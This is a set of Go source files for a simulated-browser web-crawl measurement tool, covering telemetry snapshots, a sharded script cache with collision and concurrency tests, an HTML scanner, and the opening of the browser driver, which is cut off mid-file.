	// trailing bucket for observations above the last bound.
	Bounds    []float64 `json:"bounds"`
	Counts    []int64   `json:"counts"`
	Count     int64     `json:"count"`
	SumMicros int64     `json:"sumMicros"`
}

// Snapshot is a point-in-time copy of a registry, serialisable to canonical
// JSON: encoding/json sorts map keys, series keys embed sorted labels, and
// histogram sums are integers, so identical metric state always produces
// identical bytes.
type Snapshot struct {
	Counters   map[string]int64             `json:"counters,omitempty"`
	Gauges     map[string]int64             `json:"gauges,omitempty"`
	Histograms map[string]HistogramSnapshot `json:"histograms,omitempty"`
}

// Snapshot captures the registry's current state.
func (r *Registry) Snapshot() *Snapshot {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := &Snapshot{}
	if len(r.counters) > 0 {
		s.Counters = make(map[string]int64, len(r.counters))
		for k, c := range r.counters {
			s.Counters[k] = c.Value()
		}
	}
	if len(r.gauges) > 0 {
		s.Gauges = make(map[string]int64, len(r.gauges))
		for k, g := range r.gauges {
			s.Gauges[k] = g.Value()
		}
	}
	if len(r.histograms) > 0 {
		s.Histograms = make(map[string]HistogramSnapshot, len(r.histograms))
		for k, h := range r.histograms {
			hs := HistogramSnapshot{
				Bounds:    append([]float64(nil), h.bounds...),
				Counts:    make([]int64, len(h.counts)),
				Count:     h.count.Load(),
				SumMicros: h.sumMicros.Load(),
			}
			for i := range h.counts {
				hs.Counts[i] = h.counts[i].Load()
			}
			s.Histograms[k] = hs
		}
	}
	return s
}

// CanonicalJSON renders the snapshot deterministically (sorted keys, integer
// sums, indented for golden-file readability).
func (s *Snapshot) CanonicalJSON() ([]byte, error) {
	if s == nil {
		return []byte("null"), nil
	}
	return json.MarshalIndent(s, "", " ")
}

// Total sums every counter series of the given base name (the bare name or
// any labelled variant `name{...}`). Progress lines and reports use it to
// collapse labelled series.
func (s *Snapshot) Total(name string) int64 {
	if s == nil {
		return 0
	}
	var n int64
	prefix := name + "{"
	for k, v := range s.Counters {
		if k == name || strings.HasPrefix(k, prefix) {
			n += v
		}
	}
	return n
}

// Merge folds other's series into s by addition (counters, histograms) or
// replacement (gauges). Used when combining per-shard registries.
func (s *Snapshot) Merge(other *Snapshot) {
	if s == nil || other == nil {
		return
	}
	if len(other.Counters) > 0 && s.Counters == nil {
		s.Counters = map[string]int64{}
	}
	for k, v := range other.Counters {
		s.Counters[k] += v
	}
	if len(other.Gauges) > 0 && s.Gauges == nil {
		s.Gauges = map[string]int64{}
	}
	for k, v := range other.Gauges {
		s.Gauges[k] = v
	}
	if len(other.Histograms) > 0 && s.Histograms == nil {
		s.Histograms = map[string]HistogramSnapshot{}
	}
	for k, hv := range other.Histograms {
		cur, ok := s.Histograms[k]
		if !ok || len(cur.Counts) != len(hv.Counts) {
			s.Histograms[k] = HistogramSnapshot{
				Bounds:    append([]float64(nil), hv.Bounds...),
				Counts:    append([]int64(nil), hv.Counts...),
				Count:     hv.Count,
				SumMicros: hv.SumMicros,
			}
			continue
		}
		for i := range cur.Counts {
			cur.Counts[i] += hv.Counts[i]
		}
		cur.Count += hv.Count
		cur.SumMicros += hv.SumMicros
		s.Histograms[k] = cur
	}
}

// Diff lists the series keys whose values differ between s and other
// (including series present on only one side), sorted. Record→replay audits
// use it to surface internal-behaviour divergence, not just output drift.
func (s *Snapshot) Diff(other *Snapshot) []string {
	keys := map[string]bool{}
	add := func(snap *Snapshot) {
		if snap == nil {
			return
		}
		for k := range snap.Counters {
			keys["counter:"+k] = true
		}
		for k := range snap.Gauges {
			keys["gauge:"+k] = true
		}
		for k := range snap.Histograms {
			keys["histogram:"+k] = true
		}
	}
	add(s)
	add(other)
	var out []string
	for k := range keys {
		kind, name, _ := strings.Cut(k, ":")
		var same bool
		switch kind {
		case "counter":
			same = s.counterOf(name) == other.counterOf(name)
		case "gauge":
			same = s.gaugeOf(name) == other.gaugeOf(name)
		case "histogram":
			a, b := s.histOf(name), other.histOf(name)
			same = a.Count == b.Count && a.SumMicros == b.SumMicros
		}
		if !same {
			out = append(out, k)
		}
	}
	sort.Strings(out)
	return out
}

func (s *Snapshot) counterOf(k string) int64 {
	if s == nil {
		return 0
	}
	return s.Counters[k]
}

func (s *Snapshot) gaugeOf(k string) int64 {
	if s == nil {
		return 0
	}
	return s.Gauges[k]
}

func (s *Snapshot) histOf(k string) HistogramSnapshot {
	if s == nil {
		return HistogramSnapshot{}
	}
	return s.Histograms[k]
}
