package telemetry

import "testing"

// The disabled-telemetry path must stay in the low single-digit nanoseconds:
// instrumentation points live permanently in the crawl hot paths, so a nil
// telemetry handle has to cost no more than a predictable branch.

func BenchmarkTelemetryOverheadDisabledCounter(b *testing.B) {
	var c *Counter // what every hot site holds when telemetry is off
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

func BenchmarkTelemetryOverheadDisabledEvent(b *testing.B) {
	var tel *Telemetry
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if tel.Enabled() { // the guard hot sites use before building labels
			tel.Event(LevelWarn, "watchdog-fire", 0, L("url", "x"))
		}
	}
}

func BenchmarkTelemetryOverheadDisabledSpan(b *testing.B) {
	var f *Flight
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.End(f.Begin("visit", 0, 0), "visit", 0)
	}
}

func BenchmarkTelemetryOverheadEnabledCounter(b *testing.B) {
	c := New().Counter("hits")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

func BenchmarkTelemetryOverheadEnabledHistogram(b *testing.B) {
	h := New().Histogram("lat", SecondsBuckets)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(1.5)
	}
}

func BenchmarkTelemetryOverheadEnabledSpan(b *testing.B) {
	f := NewFlight(DefaultFlightCapacity)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		f.End(f.Begin("visit", 0, 0), "visit", 0)
	}
}
