package scriptcache

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"gullible/internal/minjs"
)

// TestCollisionServesCorrectProgram is the regression test for the
// fingerprint-collision bug: two different sources forced onto the same key
// must each run as themselves, never as each other.
func TestCollisionServesCorrectProgram(t *testing.T) {
	c := NewWithHasher(100, func(string) [32]byte { return [32]byte{} })
	srcA := `var collisionResult = "A"; collisionResult`
	srcB := `var collisionResult = "B"; collisionResult`

	run := func(src string) string {
		t.Helper()
		prog, err := c.Program(src, "https://x.test/s.js")
		if err != nil {
			t.Fatalf("parse: %v", err)
		}
		it := minjs.New()
		v, err := it.RunProgram(prog)
		if err != nil {
			t.Fatalf("run: %v", err)
		}
		return v.ToString()
	}

	if got := run(srcA); got != "A" {
		t.Fatalf("first source: got %q", got)
	}
	if got := run(srcB); got != "B" {
		t.Fatalf("colliding source served wrong program: got %q, want B", got)
	}
	if got := run(srcA); got != "A" {
		t.Fatalf("original source after collision: got %q", got)
	}
	if st := c.Snapshot(); st.Collisions == 0 {
		t.Fatal("collision was not counted")
	}

	// The tamper slot must be collision-safe too.
	calls := 0
	analyze := func(src string, _ *minjs.Program) any { calls++; return src }
	if got := c.Tamper(srcA, analyze); got != srcA {
		t.Fatalf("tamper A: got %v", got)
	}
	if got := c.Tamper(srcB, analyze); got != srcB {
		t.Fatalf("tamper for colliding source served wrong analysis: got %v", got)
	}
}

func TestHitRequiresSourceEquality(t *testing.T) {
	c := New(100)
	p1, err := c.Program(`1 + 1`, "u")
	if err != nil {
		t.Fatal(err)
	}
	p2, err := c.Program(`1 + 1`, "u")
	if err != nil {
		t.Fatal(err)
	}
	if p1 != p2 {
		t.Fatal("identical (source, url) did not share a program")
	}
	p3, err := c.Program(`1 + 1`, "other")
	if err != nil {
		t.Fatal(err)
	}
	if p3 == p1 {
		t.Fatal("different URLs must not share a program (script name is observable)")
	}
	st := c.Snapshot()
	if st.Entries != 1 {
		t.Fatalf("entries = %d, want 1", st.Entries)
	}
	if st.Programs != 2 {
		t.Fatalf("programs = %d, want 2 (one per url)", st.Programs)
	}
}

func TestPerEntryURLBound(t *testing.T) {
	c := New(100)
	for i := 0; i < maxURLsPerEntry+5; i++ {
		if _, err := c.Program(`"same body"`, fmt.Sprintf("https://cdn%d.test/s.js", i)); err != nil {
			t.Fatal(err)
		}
	}
	if st := c.Snapshot(); st.Programs != maxURLsPerEntry {
		t.Fatalf("programs = %d, want bound %d", st.Programs, maxURLsPerEntry)
	}
}

func TestParseErrorNotCached(t *testing.T) {
	c := New(100)
	if _, err := c.Program(`var ] = ;`, "u"); err == nil {
		t.Fatal("expected parse error")
	}
	if n := c.Len(); n != 0 {
		t.Fatalf("parse failure cached an entry: %d", n)
	}
}

// TestBoundUnderConcurrency is the regression test for the check-then-add
// race in the old cache: the entry count must never exceed the configured
// capacity, even with many goroutines inserting distinct scripts at once.
func TestBoundUnderConcurrency(t *testing.T) {
	const cap = 64
	c := New(cap)
	var wg sync.WaitGroup
	var next atomic.Int64
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				n := next.Add(1)
				src := fmt.Sprintf(`var uniq%d = %d; uniq%d`, n, n, n)
				if _, err := c.Program(src, "u"); err != nil {
					t.Error(err)
					return
				}
				if got := c.Len(); got > cap {
					t.Errorf("cache overshot cap: %d > %d", got, cap)
					return
				}
			}
		}()
	}
	wg.Wait()
	if got := c.Len(); got > cap {
		t.Fatalf("final size %d exceeds cap %d", got, cap)
	}
	if st := c.Snapshot(); st.Evictions == 0 {
		t.Fatal("expected evictions at this insert volume")
	}
}

// TestConcurrentSharedUse hammers a small key space from many goroutines so
// hits, fills, tamper computation and LRU touches interleave under -race,
// and verifies every returned program runs as its own source.
func TestConcurrentSharedUse(t *testing.T) {
	c := New(32)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		g := g
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 150; i++ {
				id := (g*31 + i*7) % 48
				src := fmt.Sprintf(`var v = %d; v * 2`, id)
				prog, err := c.Program(src, fmt.Sprintf("https://site%d.test/a.js", id%3))
				if err != nil {
					t.Error(err)
					return
				}
				it := minjs.New()
				v, err := it.RunProgram(prog)
				if err != nil {
					t.Error(err)
					return
				}
				if int(v.Num) != id*2 {
					t.Errorf("program for id %d returned %v", id, v.Num)
					return
				}
				got := c.Tamper(src, func(s string, _ *minjs.Program) any { return len(s) })
				if got != len(src) {
					t.Errorf("tamper mismatch: %v vs %d", got, len(src))
					return
				}
			}
		}()
	}
	wg.Wait()
}

func TestTamperComputedOncePerContent(t *testing.T) {
	c := New(100)
	var calls atomic.Int64
	analyze := func(s string, _ *minjs.Program) any { calls.Add(1); return "rep" }
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				if got := c.Tamper(`navigator.webdriver`, analyze); got != "rep" {
					t.Errorf("tamper = %v", got)
					return
				}
			}
		}()
	}
	wg.Wait()
	// Concurrent first calls may race the compute, but all must converge and
	// the steady state must never recompute.
	before := calls.Load()
	c.Tamper(`navigator.webdriver`, analyze)
	if calls.Load() != before {
		t.Fatal("tamper recomputed on a warm hit")
	}
}

// TestTamperReusesCachedProgram verifies the double-parse fix: once the
// browser has cached a program for a body, the analyzer receives it.
func TestTamperReusesCachedProgram(t *testing.T) {
	c := New(100)
	src := `var w = navigator.webdriver; w`
	want, err := c.Program(src, "https://a.test/probe.js")
	if err != nil {
		t.Fatal(err)
	}
	var got *minjs.Program
	c.Tamper(src, func(s string, p *minjs.Program) any { got = p; return nil })
	if got != want {
		t.Fatalf("analyzer did not receive the cached program: %p vs %p", got, want)
	}
}

func TestLRUEvictsOldest(t *testing.T) {
	// Single-shard-sized cache so eviction order is deterministic per shard.
	c := New(numShards) // one entry per shard
	srcs := make([]string, 0, 8)
	for i := 0; len(srcs) < 2; i++ {
		src := fmt.Sprintf(`var e%d = 1`, i)
		key := c.hash(src)
		if int(key[0])&(numShards-1) == 0 {
			srcs = append(srcs, src)
		}
	}
	if _, err := c.Program(srcs[0], "u"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Program(srcs[1], "u"); err != nil {
		t.Fatal(err)
	}
	st := c.Snapshot()
	if st.Evictions != 1 {
		t.Fatalf("evictions = %d, want 1", st.Evictions)
	}
	// srcs[0] must have been evicted: re-requesting it is a miss.
	m0 := st.Misses
	if _, err := c.Program(srcs[0], "u"); err != nil {
		t.Fatal(err)
	}
	if st2 := c.Snapshot(); st2.Misses != m0+1 {
		t.Fatal("evicted entry was still served")
	}
}
