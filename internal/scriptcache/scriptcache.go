// Package scriptcache is the process-wide, content-addressed cache of parsed
// and compiled scripts. Third-party scripts repeat across thousands of
// visited sites, so a crawl that re-parses each copy spends most of its visit
// hot path in the front end; with this cache each unique script body is
// parsed, bytecode-compiled and statically analysed exactly once per process,
// shared across visits, shards and daemon jobs.
//
// Entries are keyed by the full SHA-256 of the source — not a 64-bit
// fingerprint — and every hit additionally verifies source equality, so a
// colliding key can never hand a visit someone else's program (the
// fingerprint-collision bug this package replaces). The hasher is an
// injectable seam precisely so tests can force collisions and prove the
// verification holds.
//
// Programs are observable through script names: Error().stack carries the
// program's script URL into page-visible strings and trace artifacts. A
// content entry therefore holds one compiled Program per URL the content was
// fetched from (bounded — the long tail of URL aliases parses fresh), while
// the tamper analysis, which depends only on the AST shape, is stored once
// per content hash.
//
// The package deliberately imports only minjs: browser, analysis and openwpm
// all sit above it in the dependency order, so any of them can share the one
// process-wide cache without cycles. The analysis result is an opaque `any`
// slot for the same reason.
package scriptcache

import (
	"crypto/sha256"
	"sync"
	"sync/atomic"

	"gullible/internal/minjs"
)

const (
	numShards = 16
	// maxURLsPerEntry bounds per-content program variants. Hot third-party
	// scripts are fetched from a handful of CDN URLs; a content body seen
	// under more URLs than this parses fresh for the extras.
	maxURLsPerEntry = 8
)

// Hasher maps script source to its cache key. Production uses SHA-256; tests
// inject degenerate hashers to force collisions.
type Hasher func(source string) [32]byte

func sha256Key(source string) [32]byte { return sha256.Sum256([]byte(source)) }

// entry is all cached state for one script body.
type entry struct {
	key [32]byte
	// src is retained for hit-time verification: a key collision must never
	// serve another script's program or analysis.
	src string

	mu     sync.Mutex
	progs  map[string]*minjs.Program // script URL → parsed+compiled program
	tamper any
	hasTam bool

	// intrusive LRU list, guarded by the owning shard's lock
	prev, next *entry
}

type shard struct {
	mu      sync.Mutex
	entries map[[32]byte]*entry
	// LRU ring: head.next is most recent, head.prev least recent
	head entry
	size int
	cap  int
}

func (s *shard) init(cap int) {
	s.entries = make(map[[32]byte]*entry)
	s.head.prev = &s.head
	s.head.next = &s.head
	s.cap = cap
}

func (s *shard) unlink(e *entry) {
	e.prev.next = e.next
	e.next.prev = e.prev
	e.prev, e.next = nil, nil
}

func (s *shard) pushFront(e *entry) {
	e.next = s.head.next
	e.prev = &s.head
	s.head.next.prev = e
	s.head.next = e
}

// touch moves e to the front of the LRU ring. Caller holds s.mu.
func (s *shard) touch(e *entry) {
	s.unlink(e)
	s.pushFront(e)
}

// Stats is a point-in-time snapshot of cache effectiveness, exposed on the
// daemon's /metrics page. It is scrape-time observability only — never fold
// these counters into crawl telemetry, or bundle replay identity would
// depend on what other jobs warmed the cache.
type Stats struct {
	Entries    int
	Programs   int
	Hits       int64
	Misses     int64
	Collisions int64
	Evictions  int64
}

// Cache is a sharded, bounded, content-addressed script cache. The zero
// value is not usable; construct with New.
type Cache struct {
	shards [numShards]shard
	hash   Hasher

	hits       atomic.Int64
	misses     atomic.Int64
	collisions atomic.Int64
	evictions  atomic.Int64
}

// New builds a cache bounded to roughly capacity content entries (split
// across shards). Capacity ≤ 0 falls back to the default.
func New(capacity int) *Cache {
	return NewWithHasher(capacity, sha256Key)
}

// NewWithHasher is New with an injected content hasher; the collision
// regression tests live on this seam.
func NewWithHasher(capacity int, h Hasher) *Cache {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	per := (capacity + numShards - 1) / numShards
	if per < 1 {
		per = 1
	}
	c := &Cache{hash: h}
	for i := range c.shards {
		c.shards[i].init(per)
	}
	return c
}

// DefaultCapacity bounds the process-wide cache: hot third-party scripts are
// cached early; long-tail per-site scripts are evicted LRU.
const DefaultCapacity = 20000

// Shared is the process-wide cache used by the browser and the analysis
// recorder. One instance per process is the point: a daemon running many
// jobs compiles each unique script once, ever.
var Shared = New(DefaultCapacity)

func (c *Cache) shardFor(key [32]byte) *shard {
	return &c.shards[int(key[0])&(numShards-1)]
}

// lookup returns the verified entry for (key, source), or nil. It counts a
// collision when the key exists but holds different source. Caller must NOT
// hold the shard lock.
func (c *Cache) lookup(s *shard, key [32]byte, source string) *entry {
	s.mu.Lock()
	e := s.entries[key]
	if e != nil {
		if e.src != source {
			s.mu.Unlock()
			c.collisions.Add(1)
			return nil
		}
		s.touch(e)
	}
	s.mu.Unlock()
	return e
}

// insert adds a verified entry for (key, source), evicting LRU tails past
// the shard cap. If a concurrent insert won (same key, same source), the
// winner is returned instead, so all callers converge on one entry.
func (c *Cache) insert(s *shard, key [32]byte, source string) *entry {
	s.mu.Lock()
	defer s.mu.Unlock()
	if e := s.entries[key]; e != nil {
		if e.src != source {
			c.collisions.Add(1)
			return nil
		}
		s.touch(e)
		return e
	}
	e := &entry{key: key, src: source}
	s.entries[key] = e
	s.pushFront(e)
	s.size++
	for s.size > s.cap {
		tail := s.head.prev
		if tail == &s.head {
			break
		}
		s.unlink(tail)
		delete(s.entries, tail.key)
		s.size--
		c.evictions.Add(1)
	}
	return e
}

// Program returns the parsed and bytecode-compiled program for source as
// fetched from url, caching per (content, url). A parse error is returned
// without caching, matching one-shot parse behaviour. On a forced key
// collision the cache steps aside entirely: the script still parses and runs
// correctly, it just isn't shared.
func (c *Cache) Program(source, url string) (*minjs.Program, error) {
	key := c.hash(source)
	s := c.shardFor(key)
	e := c.lookup(s, key, source)
	if e != nil {
		e.mu.Lock()
		if p := e.progs[url]; p != nil {
			e.mu.Unlock()
			c.hits.Add(1)
			return p, nil
		}
		e.mu.Unlock()
	}
	c.misses.Add(1)
	prog, err := minjs.Parse(source, url)
	if err != nil {
		return nil, err
	}
	minjs.Compile(prog)
	if e == nil {
		if e = c.insert(s, key, source); e == nil {
			return prog, nil // collision: run uncached
		}
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if p := e.progs[url]; p != nil {
		return p, nil // lost a fill race; converge on the shared program
	}
	if e.progs == nil {
		e.progs = make(map[string]*minjs.Program, 1)
	}
	if len(e.progs) < maxURLsPerEntry {
		e.progs[url] = prog
	}
	return prog, nil
}

// Tamper returns the cached static-analysis result for source, computing it
// at most once per content hash via analyze. The callback receives a parsed
// program for the source when the cache has one (any URL variant — the
// analysis depends only on AST shape, never on the script name) and nil when
// it does not, in which case the callback parses for itself.
func (c *Cache) Tamper(source string, analyze func(source string, prog *minjs.Program) any) any {
	key := c.hash(source)
	s := c.shardFor(key)
	e := c.lookup(s, key, source)
	if e == nil {
		if e = c.insert(s, key, source); e == nil {
			// collision: analyse uncached
			return analyze(source, nil)
		}
	}
	e.mu.Lock()
	if e.hasTam {
		t := e.tamper
		e.mu.Unlock()
		c.hits.Add(1)
		return t
	}
	var prog *minjs.Program
	for _, p := range e.progs {
		prog = p
		break
	}
	e.mu.Unlock()
	c.misses.Add(1)
	t := analyze(source, prog)
	e.mu.Lock()
	if e.hasTam {
		t = e.tamper // first analysis wins; all callers see one result
	} else {
		e.tamper = t
		e.hasTam = true
	}
	e.mu.Unlock()
	return t
}

// Len reports the current number of content entries.
func (c *Cache) Len() int {
	n := 0
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		n += s.size
		s.mu.Unlock()
	}
	return n
}

// Snapshot returns current cache statistics.
func (c *Cache) Snapshot() Stats {
	st := Stats{
		Hits:       c.hits.Load(),
		Misses:     c.misses.Load(),
		Collisions: c.collisions.Load(),
		Evictions:  c.evictions.Load(),
	}
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		st.Entries += s.size
		for _, e := range s.entries {
			e.mu.Lock()
			st.Programs += len(e.progs)
			e.mu.Unlock()
		}
		s.mu.Unlock()
	}
	return st
}
