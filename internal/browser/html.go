package browser

import "strings"

// HTMLItem is one element extracted from a page in document order. The
// simulated web serves real HTML markup; this scanner extracts the subset of
// elements that have loading side effects.
type HTMLItem struct {
	Tag    string
	Attrs  map[string]string
	Inline string // script body for inline <script> elements
}

// ParseHTML scans markup and returns elements with side effects (script,
// img, iframe, link, a, div-with-id) in document order. It is not a full
// tree parser: the simulation never needs nesting.
func ParseHTML(src string) []HTMLItem {
	var items []HTMLItem
	i := 0
	for i < len(src) {
		lt := strings.IndexByte(src[i:], '<')
		if lt < 0 {
			break
		}
		i += lt
		if strings.HasPrefix(src[i:], "<!--") {
			end := strings.Index(src[i:], "-->")
			if end < 0 {
				break
			}
			i += end + 3
			continue
		}
		gt := strings.IndexByte(src[i:], '>')
		if gt < 0 {
			break
		}
		tagSrc := src[i+1 : i+gt]
		i += gt + 1
		if tagSrc == "" || tagSrc[0] == '/' || tagSrc[0] == '!' {
			continue
		}
		name, attrs := parseTag(tagSrc)
		switch name {
		case "script":
			item := HTMLItem{Tag: name, Attrs: attrs}
			if attrs["src"] == "" {
				end := strings.Index(strings.ToLower(src[i:]), "</script")
				if end < 0 {
					end = len(src) - i
				}
				item.Inline = src[i : i+end]
				i += end
			}
			items = append(items, item)
		case "img", "iframe", "a", "link", "video", "audio", "object", "embed":
			items = append(items, HTMLItem{Tag: name, Attrs: attrs})
		default:
			if attrs["id"] != "" {
				items = append(items, HTMLItem{Tag: name, Attrs: attrs})
			}
		}
	}
	return items
}

// parseTag splits `name attr="v" attr2='v'` into name and attribute map.
func parseTag(s string) (string, map[string]string) {
	s = strings.TrimSpace(strings.TrimSuffix(s, "/"))
	sp := strings.IndexAny(s, " \t\n\r")
	if sp < 0 {
		return strings.ToLower(s), map[string]string{}
	}
	name := strings.ToLower(s[:sp])
	attrs := map[string]string{}
	rest := s[sp:]
	for {
		rest = strings.TrimLeft(rest, " \t\n\r")
		if rest == "" {
			break
		}
		eq := strings.IndexByte(rest, '=')
		sp := strings.IndexAny(rest, " \t\n\r")
		if eq < 0 || (sp >= 0 && sp < eq) {
			// bare attribute
			if sp < 0 {
				attrs[strings.ToLower(rest)] = ""
				break
			}
			attrs[strings.ToLower(rest[:sp])] = ""
			rest = rest[sp:]
			continue
		}
		key := strings.ToLower(strings.TrimSpace(rest[:eq]))
		rest = strings.TrimLeft(rest[eq+1:], " \t\n\r")
		if rest == "" {
			attrs[key] = ""
			break
		}
		switch rest[0] {
		case '"', '\'':
			q := rest[0]
			end := strings.IndexByte(rest[1:], q)
			if end < 0 {
				attrs[key] = rest[1:]
				rest = ""
			} else {
				attrs[key] = rest[1 : 1+end]
				rest = rest[end+2:]
			}
		default:
			end := strings.IndexAny(rest, " \t\n\r")
			if end < 0 {
				attrs[key] = rest
				rest = ""
			} else {
				attrs[key] = rest[:end]
				rest = rest[end:]
			}
		}
	}
	return name, attrs
}
