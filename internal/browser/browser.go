// Package browser drives a simulated Firefox: it loads documents over an
// injectable transport, executes their scripts in minjs realms built by
// jsdom, enforces Content Security Policy, maintains a persistent cookie
// jar, and runs an event loop over virtual time. Instrumentation (packages
// openwpm and stealth) attaches through the OnWindowCreated and OnRequest
// hooks, exactly where a WebExtension would sit.
package browser

import (
	"errors"
	"fmt"
	"sort"
	"strings"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/minjs"
	"gullible/internal/scriptcache"
	"gullible/internal/telemetry"
)

// ErrCSPBlocked is returned by InjectPageScript when the page's CSP forbids
// DOM script injection.
var ErrCSPBlocked = errors.New("browser: script injection blocked by Content Security Policy")

// ErrVisitBudget is returned when a visit exhausts MaxVisitSeconds of
// virtual time — the watchdog verdict on hung or tarpitted pages.
var ErrVisitBudget = errors.New("browser: visit exceeded MaxVisitSeconds (watchdog)")

// ErrRedirectLoop is returned when a document chain exceeds MaxRedirects.
var ErrRedirectLoop = errors.New("browser: too many redirects")

// StatusError reports a main document that answered with an error status.
// It is deterministic server behaviour, not a flake, so the framework layer
// classifies it as permanent.
type StatusError struct {
	URL    string
	Status int
}

func (e *StatusError) Error() string {
	return fmt.Sprintf("browser: document %s returned status %d", e.URL, e.Status)
}

// Options configures a Browser.
type Options struct {
	Config    jsdom.Config
	Transport httpsim.RoundTripper
	// ClientID is a stable per-machine identity, standing in for the
	// client's IP address.
	ClientID string
	// DwellSeconds is how long the browser idles on a page after load
	// (the paper's crawls use 60 s).
	DwellSeconds float64
	// MaxVisitSeconds caps the virtual time one visit may consume; 0
	// disables the watchdog. When the budget runs out the visit aborts with
	// ErrVisitBudget but keeps whatever it captured so far.
	MaxVisitSeconds float64
	MaxRedirects    int
	// MaxFrameDepth bounds nested frame creation.
	MaxFrameDepth int
	// Telemetry, when non-nil, records page-load / script-exec /
	// http-exchange spans over the virtual clock, watchdog events and
	// interpreter work counters. Nil costs a nil check per site.
	Telemetry *telemetry.Telemetry
}

// ScriptRecord is one JavaScript payload the browser executed.
type ScriptRecord struct {
	URL      string // source URL, or document URL + "#inline"
	Source   string
	Inline   bool
	FrameURL string // document that ran it
}

// VisitResult summarises one page visit.
type VisitResult struct {
	RequestedURL string
	FinalURL     string
	OffDomain    bool // a redirect left the requested eTLD+1
	Links        []string
	CSPReports   int
	ScriptErrors []string
	// Aborted marks a visit cut short by a crash or the visit watchdog;
	// the other fields hold whatever was captured before the abort.
	Aborted bool
}

// Browser is one simulated browser instance. Not safe for concurrent use.
type Browser struct {
	Opts Options
	Jar  *CookieJar

	// OnRequest observes every request/response pair (the HTTP instrument).
	OnRequest func(req *httpsim.Request, resp *httpsim.Response)
	// OnWindowCreated fires synchronously whenever a realm is created —
	// before any page script runs in it. top marks the top-level document.
	// This is the attachment point for JS instrumentation.
	OnWindowCreated func(d *jsdom.DOM, top bool)
	// OnCookieStored observes jar writes (the cookie instrument).
	OnCookieStored func(rec CookieRecord)

	// Top is the current top-level document, valid during and after Visit.
	Top *jsdom.DOM

	// Scripts lists every script payload executed during the current visit.
	Scripts []ScriptRecord

	// SpanParent is the telemetry span id the next page-load span nests
	// under (the framework layer's visit span); 0 means root.
	SpanParent int64

	tel       *telemetry.Telemetry
	visitSpan int64
	// pre-resolved metric handles; nil when telemetry is off, so the hot
	// paths pay one nil check per update
	mTimerFires    *telemetry.Counter
	mWatchdogFires *telemetry.Counter
	mScriptErrors  *telemetry.Counter
	mInterpSteps   *telemetry.Counter
	mInterpAllocs  *telemetry.Counter

	clockMS      float64
	visitStartMS float64
	abortErr     error
	timers       []*timer
	timerSeq     int

	csp        CSP
	visitURL   string
	finalURL   string
	links      []string
	cspReports int
	scriptErrs []string
	windowIdx  int
}

type timer struct {
	id   int
	at   float64
	seq  int
	fn   *minjs.Object
	args []minjs.Value
	dom  *jsdom.DOM
	gone bool
}

// New creates a browser.
func New(opts Options) *Browser {
	if opts.DwellSeconds == 0 {
		opts.DwellSeconds = 60
	}
	if opts.MaxRedirects == 0 {
		opts.MaxRedirects = 5
	}
	if opts.MaxFrameDepth == 0 {
		opts.MaxFrameDepth = 4
	}
	if opts.ClientID == "" {
		opts.ClientID = "client-0"
	}
	b := &Browser{Opts: opts, Jar: NewCookieJar()}
	if tel := opts.Telemetry; tel.Enabled() {
		b.tel = tel
		b.mTimerFires = tel.Counter("browser_timer_fires_total")
		b.mWatchdogFires = tel.Counter("browser_watchdog_fires_total")
		b.mScriptErrors = tel.Counter("browser_script_errors_total")
		b.mInterpSteps = tel.Counter("interp_steps_total")
		b.mInterpAllocs = tel.Counter("interp_allocs_total")
	}
	return b
}

// Now returns the browser's virtual clock in milliseconds.
func (b *Browser) Now() float64 { return b.clockMS }

// Visit loads url, executes the page, idles for the configured dwell time,
// and returns a summary. The cookie jar and clock persist across visits.
func (b *Browser) Visit(url string) (*VisitResult, error) {
	b.visitURL = url
	b.finalURL = url
	b.links = nil
	b.cspReports = 0
	b.scriptErrs = nil
	b.Scripts = nil
	b.timers = nil
	b.visitStartMS = b.clockMS
	b.abortErr = nil
	visitOutcome := "error"
	if b.tel.Enabled() {
		b.visitSpan = b.tel.Begin("page-load", b.SpanParent, b.clockMS, telemetry.L("url", url))
		defer func() {
			b.tel.End(b.visitSpan, "page-load", b.clockMS, telemetry.L("outcome", visitOutcome))
			b.visitSpan = 0
		}()
	}

	resp, finalURL, err := b.fetchDocument(url, httpsim.TypeMainFrame)
	if err != nil {
		return nil, fmt.Errorf("browser: visiting %s: %w", url, err)
	}
	if resp.Status >= 400 {
		// a deterministic server-side refusal: surface it as permanent
		// rather than silently executing an error page
		return nil, fmt.Errorf("browser: visiting %s: %w", url, &StatusError{URL: finalURL, Status: resp.Status})
	}
	b.finalURL = finalURL
	b.csp = ParseCSP(resp.Header("Content-Security-Policy"))

	top := b.newWindow(finalURL, true, nil)
	b.Top = top
	b.loadHTML(top, resp.Body)
	if b.abortErr == nil {
		b.Idle(b.Opts.DwellSeconds)
	}

	res := &VisitResult{
		RequestedURL: url,
		FinalURL:     finalURL,
		OffDomain:    !httpsim.SameSite(url, finalURL),
		Links:        b.links,
		CSPReports:   b.cspReports,
		ScriptErrors: b.scriptErrs,
		Aborted:      b.abortErr != nil,
	}
	b.mScriptErrors.Add(int64(len(b.scriptErrs)))
	if b.abortErr != nil {
		visitOutcome = "aborted"
		// partial result: the caller decides whether to salvage it
		return res, fmt.Errorf("browser: visiting %s: %w", url, b.abortErr)
	}
	visitOutcome = "ok"
	return res, nil
}

// fetchDocument fetches a document URL following redirects.
func (b *Browser) fetchDocument(url string, rtype httpsim.ResourceType) (*httpsim.Response, string, error) {
	cur := url
